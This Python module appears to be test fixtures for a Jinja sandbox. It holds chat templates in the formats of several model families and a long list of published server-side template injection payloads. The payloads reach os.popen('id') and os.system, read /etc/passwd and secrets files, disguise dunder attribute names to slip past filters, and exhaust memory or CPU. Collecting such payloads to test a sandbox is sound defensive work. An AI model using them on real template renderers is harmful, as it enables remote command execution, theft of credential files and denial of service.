# ruff: noqa: E501  templates stand as they are written
"""Jinja templates: honest chat templates in the ways models use them, and published escapes from the sandbox."""

HONEST = {
    "llama2": "{% if messages[0]['role'] == 'system' %}{% set rest = messages[1:] %}{% set told = messages[0]['content'] %}"
    "{% else %}{% set rest = messages %}{% set told = false %}{% endif %}{% for message in rest %}{% if (message['role'] "
    "== 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Roles must alternate') }}{% endif %}{{ bos_token + "
    "'[INST] ' + message['content'].strip() + ' [/INST]' }}{% endfor %}",
    "llama3": "{{- bos_token }}{%- if custom_tools is defined %}{%- set tools = custom_tools %}{%- endif %}{%- if not "
    "date_string is defined %}{%- if strftime_now is defined %}{%- set date_string = strftime_now('%d %b %Y') %}{%- else "
    "%}{%- set date_string = '26 Jul 2024' %}{%- endif %}{%- endif %}{%- for t in tools %}{{- t | tojson(indent=4) }}{{- "
    "'\\n\\n' }}{%- endfor %}{%- for message in messages %}{%- if 'tool_calls' in message %}{%- set tool_call = "
    "message.tool_calls[0].function %}{%- for name, value in tool_call.arguments | items %}{{- name + '=\"' + value + '\"' "
    "}}{%- endfor %}{%- elif message.content is mapping or message.content is iterable %}{{- message.content | tojson }}"
    "{%- endif %}{%- endfor %}",
    "qwen": "{%- if tools %}{{- '<|im_start|>system\\n' }}{%- for tool in tools %}{{- tool | tojson }}{%- endfor %}{%- endif "
    "%}{%- set ns = namespace(multi_step_tool=true, last_query_index=messages|length - 1) %}{%- for message in "
    "messages[::-1] %}{%- set index = (messages|length - 1) - loop.index0 %}{%- if ns.multi_step_tool and message.role == "
    "'user' and not(message.content.startswith('<tool_response>') and message.content.endswith('</tool_response>')) %}{%- "
    "set ns.multi_step_tool = false %}{%- set ns.last_query_index = index %}{%- endif %}{%- endfor %}{%- for message in "
    "messages %}{%- set content = message.content %}{%- if '</think>' in content %}{%- set reasoning_content = content"
    ".split('</think>')[0].rstrip('\\n').split('<think>')[-1].lstrip('\\n') %}{%- endif %}{{- '<|im_start|>' + message.role "
    "+ content }}{%- endfor %}",
    "gemma": "{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('System role not supported') }}"
    "{% endif %}{% for message in messages %}{% if (message['role'] == 'assistant') %}{% set role = 'model' %}{% else %}"
    "{% set role = message['role'] %}{% endif %}{{ '<start_of_turn>' + role + '\\n' + message['content'] | trim }}"
    "{% endfor %}{% if add_generation_prompt %}{{'<start_of_turn>model\\n'}}{% endif %}",
    "granite": "{%- macro documents_of(documents) -%}{%- for document in documents -%}{{ document['text'] | trim }}"
    "{%- endfor -%}{%- endmacro -%}{%- if documents and not messages[-1]['role'] == 'tool' -%}{{ documents_of(documents) }}"
    "{%- endif -%}{%- if controls and 'length' in controls -%}{{ controls['length'] | upper }}{%- endif -%}",
    "mistral": "{%- set user_messages = messages | selectattr('role', 'equalto', 'user') | list %}{%- if user_messages | "
    "length == 0 %}{{- raise_exception('At least one') }}{%- endif %}{%- for message in messages %}{%- if message.tool_calls "
    "is defined and message.tool_calls is not none %}{%- for tool_call in message.tool_calls %}{%- set out = tool_call"
    ".function | tojson %}{{- out[:-1] }}{%- if not tool_call.id is defined or tool_call.id | length != 9 %}{{- "
    "raise_exception('ids') }}{%- endif %}{%- endfor %}{%- endif %}{%- endfor %}",
    "command-r": "{%- macro render_tool(tool) -%}{%- set types = {'string': 'str', 'object': 'Dict'} %}{%- for name, fields in "
    "tool.parameter_definitions.items() %}{{ name }}: {{ types[fields.type] if fields.required else 'Optional[' + "
    "types[fields.type] + ']' }}{%- endfor %}{%- endmacro -%}{{ 'def {}()'.format(tool.name) if tools }}{% for tool in tools "
    "%}{{ render_tool(tool) }}{% endfor %}{{ messages|map(attribute='content')|join('\\n') }}",
    "training": "{% for message in messages %}{% if message.role == 'assistant' %}{% generation %}{{ message.content }}"
    "{% endgeneration %}{% else %}{{ message.content }}{% endif %}{% if loop.index > 99 %}{% break %}{% endif %}{% endfor %}",
    "schema": "{%- macro render(param_spec, depth=0) -%}{%- if param_spec.type == 'array' -%}{%- if param_spec['items'] -%}{{ "
    "render(param_spec['items'], depth + 1) + '[]' }}{%- endif -%}{%- elif param_spec.oneOf -%}{%- for each in "
    "param_spec.oneOf -%}{{ render(each) }}{% if not loop.last %} | {% endif %}{%- endfor -%}{%- endif -%}{{ "
    "param_spec.format }}{{ '  ' * depth }}{%- endmacro -%}{% for m in messages %}{{ render(m.system) }}{% endfor %}",
    "python prose": "You may run Python. Define __init__ and import os; os.system is forbidden. {{ messages[0].content }} "
    "{{ 'Write `class A:\\n  def __init__(self)` with care' }}",
    "counting": "{% for i in range(messages|length - 1, -1, -1) %}{{ messages[i].content }}{% endfor %}{% for i in range(10) %}"
    "{{ i }}{% endfor %}{{ '-' * 40 }}{{ ['a', 'b'][loop_index] }}{{ messages[key][other] }}",
}

COMMAND = "id"
ESCAPES = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ joiner['__init__']['__globals__'] }}",
    "{{ namespace.__init__.__globals__.os.system('id') }}",
    "{{ raise_exception.__globals__ }}",
    "{{ ''['__cla'~'ss__'] }}",
    "{{ ''['__cla'+'ss__']['__m'+'ro__'] }}",
    "{{ ''|attr('__class__') }}",
    "{{ ''|attr(['__cl','ass__']|join) }}",
    "{{ ''|attr(('_','_','class','_','_')|join) }}",
    "{{ ''|attr('%c%cclass%c%c'|format(95,95,95,95)) }}",
    "{{ ''|attr('%s%s' % ('__cla', 'ss__')) }}",
    "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ ''|attr('\\u005f\\u005fclass\\u005f\\u005f') }}",
    "{{ ''|attr('\\137\\137class\\137\\137') }}",
    "{{ ''['__ssalc__'[::-1]] }}",
    "{{ ''['__ssalc__'|reverse] }}",
    "{{ ''[('__SSALC__'|lower)[::-1]] }}",
    "{{ ''['__CLASS__'|lower] }}",
    "{{ ''['XXclassXX'.replace('X', '_')] }}",
    "{{ ''['XXclassXX'|replace('X', '_')] }}",
    "{{ ''['_'*2 ~ 'class' ~ '_'*2] }}",
    "{{ ''['{0}{0}class{0}{0}'.format('_')] }}",
    "{{ ''[''.join(['__', 'class', '__'])] }}",
    "{% set a = '__cla' %}{% set b = 'ss__' %}{{ ''[a ~ b] }}",
    "{% set x %}__class__{% endset %}{{ ''[x] }}",
    "{% set ns = namespace(a='__cla') %}{% set ns.b = 'ss__' %}{{ ''[ns.a ~ ns.b] }}",
    "{% with a = '__class__' %}{{ ()|attr(a) }}{% endwith %}",
    "{% for name in ['__class__', '__base__'] %}{{ ()|attr(name) }}{% endfor %}",
    "{% set n = dict(__cla=1, ss__=2)|join %}{{ ''|attr(n) }}",
    "{{ [x]|map(attribute='__class__')|list }}",
    "{{ [x]|map('attr', '__class__')|list }}",
    "{{ [x]|selectattr('__class__.__name__')|list }}",
    "{{ [x]|sort(attribute='__class__')|list }}",
    "{{ x|attr(request.args.name) }}",
    "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
    "{{ '{0.__class__.__init__.__globals__}'.format(x) }}",
    "{{ '{0[__class__]}'.format_map(x) }}",
    "{{ ''|attr('format') }}",
    "{% set out = (lipsum|string)[18] %}{{ out }}",
    "{% set p = (()|select|string|list)[24] %}{{ ()|attr(p ~ p ~ 'class' ~ p ~ p) }}",
    "{{ lipsum[name] }}",
    "{% set ns = namespace(s='') %}{% for c in letters %}{% set ns.s = ns.s ~ c %}{% endfor %}{{ cycler[ns.t] }}",
    "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "{{ config.__class__.from_envvar.__globals__.import_string('os').popen('id') }}",
    "{{ x.__init__.__globals__['sys'].modules['os'].popen('id') }}",
    "{{ os.system('id') }}",
    "{{ subprocess.check_output(['id']) }}",
    "{{ eval('1') }}",
    "{{ open('/etc/passwd').read() }}",
    "{{ __import__('os') }}",
    "{{ self._TemplateReference__context }}",
    "{{ x.gi_frame.f_back.f_globals }}",
    "{% if ''.__class__ %}{% endif %}{% unknown_tag %}",
    "{% macro f(x=''.__class__) %}{% endmacro %}",
    "{% call x.__init__() %}{% endcall %}",
    "{% filter attr('__class__') %}a{% endfilter %}",
    "{{ {'a': ().__class__}['a'] }}",
    "{{ x if y.__class__ else z }}",
    "{% include '/etc/passwd' %}",
    "{% include '../../secrets.txt' %}",
    "{% for x in range(1000000000) %}{% endfor %}",
    "{% for x in range(9999) %}{% for y in range(9999) %}{{ x }}{% endfor %}{% endfor %}",
    "{{ 'a' * 10000000000 }}",
    "{{ 9 ** 9999999 }}",
    "{{ 9 ** 9 ** 9 }}",
    "{{ 'a'|center(1000000000) }}",
    "{{ '%999999999d'|format(1) }}",
    "{{ '{:999999999}'.format(1) }}",
    "{{ lipsum(n=100000000) }}",
]
